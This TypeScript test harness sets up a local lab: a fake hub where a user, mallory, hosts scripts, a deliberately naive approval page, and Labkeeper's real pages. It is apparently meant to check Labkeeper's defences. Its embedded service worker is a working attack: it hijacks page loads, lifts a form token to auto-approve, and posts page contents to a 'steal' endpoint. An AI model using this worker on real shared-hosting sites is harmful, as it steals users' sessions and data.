// A hub host on which mallory's pages run scripts, a naive approval page beside them, and Labkeeper's real pages on a host
// of their own; bundled and run as a process of its own.
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pino } from 'pino';
import { createHubApi } from '../../packages/hub-service/src/hub-api/hub-api.js';
import { MemoryLog } from '../../packages/hub-service/src/pages/memory-log.test.data.js';
import { pagesServer } from '../../packages/hub-service/src/pages/pages-server.js';
import { registerPages } from '../../packages/hub-service/src/pages/register-pages.js';
import { FakeHub } from '../../packages/hub-service/src/people/fake-hub.test.data.js';
import { OAuthIdentity } from '../../packages/hub-service/src/people/oauth-identity.js';
import { readPeopleSettings } from '../../packages/hub-service/src/people/people-settings.js';
import { systemRandom } from '../../packages/hub-service/src/people/secrets.js';
import { MadeKey, MadeLog } from '../../packages/hub-service/test/support/made-log.js';
import { NAIVE_PREFIX, NaivePages } from './naive-pages.ts';

/** Takes every page that is opened on its host: reads what came, approves with the token in it, and shows another one. */
const WORKER = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', event =>
  event.waitUntil(Promise.all([self.clients.claim(), self.registration.navigationPreload.enable()])));
self.addEventListener('fetch', event => {
  if (event.request.mode !== 'navigate') return;
  event.respondWith((async () => {
    const text = await (await event.preloadResponse).text();
    const send = (path, fields) => fetch(path, { method: 'POST', body: new URLSearchParams(fields) });
    const token = /name="form" value="([^"]+)"/.exec(text)?.[1];
    if (token) await send('${NAIVE_PREFIX}approve', { form: token });
    await send('/user/mallory/steal', { what: event.request.url + ' ' + text });
    return new Response('<p>swapped by a worker</p>', { headers: { 'content-type': 'text/html' } });
  })());
});`;

const naive = new NaivePages();
/** What mallory's pages sent home. */
const stolen: string[] = [];
const log = new MemoryLog();
log.add({ user: 'secret-user' });

const hubServer = createServer((request, response) => void answer(request, response));
await new Promise<void>(resolve => hubServer.listen(0, '127.0.0.1', resolve));
const { port: hubPort } = hubServer.address() as AddressInfo;
const hubUrl = `http://hub.lab.localhost:${hubPort}`;
const pagesPort = await freePort();
const pagesUrl = `http://labkeeper.lab.localhost:${pagesPort}`;
const settings = readPeopleSettings({ LABKEEPER_PAGES_URL: pagesUrl, LABKEEPER_HUB_PUBLIC_URL: hubUrl });
if (settings === null) {
  throw new Error('There are no pages.');
}
const hub = new FakeHub(settings);
const scopes = ['access:services!service=labkeeper', 'custom:labkeeper:audit'];
hub.people.set('mallory', { name: 'mallory', groups: [], scopes });
const fastify = pagesServer(pino({ level: 'silent' }));
const apiUrl = `http://127.0.0.1:${hubPort}/hub/api`;
const made = new MadeLog({ key: new MadeKey(), records: 20, streams: 2, digestRecords: 10, uncovered: 0 });
await registerPages(fastify, {
  settings,
  reader: log,
  identity: new OAuthIdentity({
    hub: settings.hub,
    hubApi: createHubApi({ url: apiUrl, timeoutMs: 5000 }),
    apiUrl,
    clientId: settings.clientId,
    clientSecret: hub.secret,
    redirectUri: settings.redirectUri
  }),
  exports: { source: made, signer: made.made.key, cover: () => Promise.resolve() },
  groupsFiltered: true,
  random: systemRandom,
  nowMs: () => Date.now()
});
await fastify.listen({ host: '127.0.0.1', port: pagesPort });
process.stdout.write(
  `${JSON.stringify({
    hubUrl,
    pagesUrl,
    siblingUrl: `http://mallory.lab.localhost:${hubPort}`,
    foreignUrl: `http://127.0.0.1:${hubPort}`
  })}\n`
);

async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
  const url = new URL(request.url ?? '/', hubUrl);
  const { pathname: path, searchParams: query } = url;
  const form = new URLSearchParams(await bodyOf(request));
  const cookies = cookiesOf(request);
  const send = (status: number, headers: Record<string, string>, body = ''): void => {
    response.writeHead(status, headers).end(body);
  };
  if (path.startsWith(NAIVE_PREFIX)) {
    const method = request.method ?? 'GET';
    const to = naive.answer({ method, path: path.slice(NAIVE_PREFIX.length), query, cookies, form });
    send(to.status, to.headers, to.body);
  } else if (path === '/user/mallory/worker.js') {
    send(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' }, WORKER);
  } else if (path === '/user/mallory/steal') {
    stolen.push(form.get('what') ?? '');
    send(204, {});
  } else if (path === '/state') {
    const { approved, signedOut, opened } = naive;
    const state = { approved, signedOut, opened, stolen, looks: log.seen };
    send(200, { 'content-type': 'application/json' }, JSON.stringify(state));
  } else if (path === '/hub/api/oauth2/authorize') {
    // Whose browser it is: the stand-in for the hub's own login.
    hub.present = cookies.get('hub-user') ?? '';
    const to = hub.authorize(url.href);
    send(to === null ? 400 : 302, to === null ? {} : { location: to });
  } else if (path === '/hub/api/oauth2/token') {
    const traded = hub.trade(form);
    send(traded.status, { 'content-type': 'application/json' }, await traded.text());
  } else if (path === '/hub/api/user') {
    const person = await hub.whoIs((request.headers.authorization ?? '').replace('token ', ''));
    send(person ? 200 : 403, { 'content-type': 'application/json' }, JSON.stringify(person ?? {}));
  } else {
    // Whatever lies below /user/mallory/ is hers: a page without a policy, in which her scripts run.
    send(200, { 'content-type': 'text/html' }, '<!doctype html><title>mallory</title><p>Welcome.</p>');
  }
}

function cookiesOf({ headers }: IncomingMessage): Map<string, string> {
  const pairs = (headers.cookie ?? '').split('; ').map(text => text.split('=', 2));
  return new Map(pairs.map(([name = '', value = '']) => [name, value]));
}

async function bodyOf(request: IncomingMessage): Promise<string> {
  const parts: Buffer[] = [];
  for await (const part of request) {
    parts.push(Buffer.from(part));
  }
  return Buffer.concat(parts).toString('utf8');
}

async function freePort(): Promise<number> {
  const probe = createServer();
  await new Promise<void>(resolve => probe.listen(0, '127.0.0.1', resolve));
  const { port } = probe.address() as AddressInfo;
  await new Promise(resolve => probe.close(resolve));
  return port;
}
